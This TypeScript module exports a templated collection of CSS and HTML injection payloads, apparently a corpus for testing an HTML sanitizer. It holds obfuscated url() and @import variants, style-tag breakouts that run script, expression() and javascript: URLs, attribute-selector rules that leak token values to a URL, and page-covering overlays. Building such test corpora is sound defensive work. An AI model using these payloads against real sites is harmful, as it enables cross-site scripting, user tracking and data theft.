import type { Family } from '../payloads.ts'

/** Every way to write an address that a style would load. */
const ADDRESSES = [
  'url({{URL}})',
  'url("{{URL}}")',
  "url('{{URL}}')",
  'url( "{{URL}}" )',
  'URL({{URL}})',
  '\\75 rl({{URL}})',
  'u\\72l({{URL}})',
  'u/**/rl({{URL}})',
  'url(/**/{{URL}})',
  'url(\\68ttp{{URL}})',
  'image-set("{{URL}}" 1x)',
  '-webkit-image-set(url({{URL}}) 1x)',
  'image("{{URL}}")',
  'src("{{URL}}")',
  'cross-fade(url({{URL}}), url({{URL}}), 50%)',
  'var(--x, url({{URL}}))',
  'none;background:url({{URL}}',
  'url(cid:x) , url({{URL}})',
  'url(data:image/png;base64,AAAA), url({{URL}})',
  'linear-gradient(red, url({{URL}}))',
]

const PROPERTIES = (
  'background background-image list-style list-style-image cursor content border-image ' +
  'border-image-source mask mask-image -webkit-mask-image -webkit-box-reflect filter ' +
  'backdrop-filter clip-path shape-outside offset-path behavior -moz-binding src --x'
).split(' ')

const SHEETS = [
  '@import "{{URL}}";',
  '@import url({{URL}});',
  "@import '{{URL}}' screen;",
  '@\\69mport "{{URL}}";',
  '@im\\port "{{URL}}";',
  '@charset "utf-8"; @import "{{URL}}";',
  '@font-face { font-family: x; src: url({{URL}}) } body { font-family: x }',
  '@namespace url({{URL}});',
  '@media screen { body { background: url({{URL}}) } }',
  '@media screen { @import "{{URL}}"; }',
  '@supports (color: red) { body { background: url({{URL}}) } }',
  '@layer a { body { background: url({{URL}}) } }',
  '@scope (body) { p { background: url({{URL}}) } }',
  '@container (width > 1px) { p { background: url({{URL}}) } }',
  '@property --a { syntax: "<url>"; inherits: true; initial-value: url({{URL}}) } p { background: var(--a) }',
  '@view-transition { navigation: auto }',
  '@page { background: url({{URL}}) }',
  '@counter-style x { system: cyclic; symbols: url({{URL}}) } li { list-style: x }',
  'body { background: url({{URL}}) }',
  'body{background:url({{URL}}',
  'p::before { content: url({{URL}}) }',
  'p:hover { background: url({{URL}}) }',
  '[class^="a"] { background: url({{URL}}) }',
  'a[href*="token=a"] { background: url({{URL}}) }',
  'p { color: red; & b { background: url({{URL}}) } }',
  '</style><img src=x onerror="{{JS}}"><style>',
  'p { content: "</style><img src=x onerror={{JS}}>" }',
  '<!-- </style><script>{{JS}}</script> -->',
  'p { width: expression({{JS}}) }',
  'p { -moz-binding: url({{URL}}#x) }',
  'p { behavior: url({{URL}}) }',
  'p { background: "javascript:{{JS}}" }',
  '/* */ @import "{{URL}}"; /*',
  '*/ p { background: url({{URL}}) }',
  'p { color: red } } body { background: url({{URL}}) }',
  '\\',
  'p { font-family: "\\"; } body { background: url({{URL}}) }" }',
]

export const cssPayloads: Family = {
  'css-address': ADDRESSES.map((address) => `<p style='background:${quoted(address)}'>x</p>`),
  'css-property': PROPERTIES.flatMap((property) => [
    `<p style="${property}: url({{URL}})">x</p>`,
    `<style>p { ${property}: url({{URL}}) }</style><p>x</p>`,
  ]),
  'css-sheet': SHEETS.map((sheet) => `<style>${sheet}</style><p class="a">x<b>y</b></p>`),
  css: [
    '<div style="position:fixed;inset:0;background:red">covers everything</div>',
    '<div style="position:absolute;top:-100px;z-index:99999">x</div>',
    '<p style="width:expression({{JS}})">x</p>',
    '<p style="width:e/**/xpression({{JS}})">x</p>',
    '<p style="background-image:url(javascript:{{JS}})">x</p>',
    '<p style="background:url(&quot;javascript:{{JS}}&quot;)">x</p>',
    '<p style="-o-link:\'javascript:{{JS}}\';-o-link-source:current">x</p>',
    "<p style='x:\"><script>{{JS}}</script>'>x</p>",
    '<p style="background:url({{URL}}?a" onclick="{{JS}}">x</p>',
    '<p style="color:red;background:url({{URL}})\u0000">x</p>',
    '<p style="font-family:\'x\\\';background:url({{URL}})">x</p>',
    '<link rel=stylesheet href="{{URL}}">',
    '<link rel=stylesheet href="data:text/css,@import \'{{URL}}\'">',
    '<style media="screen" title="x">@import "{{URL}}";</style>',
    '<style type="text/css"><![CDATA[ @import "{{URL}}"; ]]></style>',
    '<svg style="background:url({{URL}})"></svg>',
    '<font style="background:url({{URL}})" color="red;background:url({{URL}})">x</font>',
    '<td style="background:url({{URL}})">x</td>',
    '<body style="background:url({{URL}})">x</body>',
    '<html style="background:url({{URL}})"><body>x</body></html>',
  ],
}

function quoted(address: string): string {
  return address.replaceAll("'", '&#39;')
}
